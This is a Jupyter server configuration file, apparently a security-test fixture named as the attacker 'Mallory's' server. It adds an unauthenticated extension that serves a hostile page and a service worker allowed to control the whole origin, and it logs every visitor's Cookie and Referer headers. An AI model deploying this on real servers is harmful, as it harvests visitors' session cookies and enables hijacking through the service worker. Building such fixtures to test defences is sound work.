"""Mallory's own `~/.jupyter/jupyter_server_config.py`: her server answers strangers.

It serves the page that attacks its visitors, and logs the header Cookie of each request.
"""

import json
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

from jupyter_server.auth.decorator import allow_unauthenticated
from jupyter_server.utils import url_path_join
from tornado.web import RequestHandler

HERE = Path(__file__).parent
LOG = HERE / "requests.log"


class Hostile(RequestHandler):
    def initialize(self, file: str, content_type: str) -> None:
        self.file = file
        self.content_type = content_type

    @allow_unauthenticated
    def get(self) -> None:
        seen = {
            "url": self.request.full_url(),
            "cookies": self.request.headers.get("Cookie", ""),
            "referer": self.request.headers.get("Referer", ""),
        }
        with LOG.open("a") as log:
            log.write(json.dumps(seen) + "\n")
        self.set_header("Content-Type", self.content_type)
        self.set_header("Service-Worker-Allowed", "/")
        self.write((HERE / self.file).read_bytes())


def _load_jupyter_server_extension(server: Any) -> None:
    base = server.web_app.settings["base_url"]
    routes = {"page": ("page.html", "text/html"), "worker.js": ("worker.js", "text/javascript")}
    server.web_app.add_handlers(
        ".*$",
        [
            (url_path_join(base, "x", path), Hostile, {"file": file, "content_type": kind})
            for path, (file, kind) in routes.items()
        ],
    )


extension = ModuleType("hostile_extension")
extension._load_jupyter_server_extension = _load_jupyter_server_extension  # type: ignore[attr-defined]
sys.modules["hostile_extension"] = extension

c = get_config()  # type: ignore[name-defined]  # noqa: F821  (given by traitlets)
c.ServerApp.jpserver_extensions = {"hostile_extension": True}
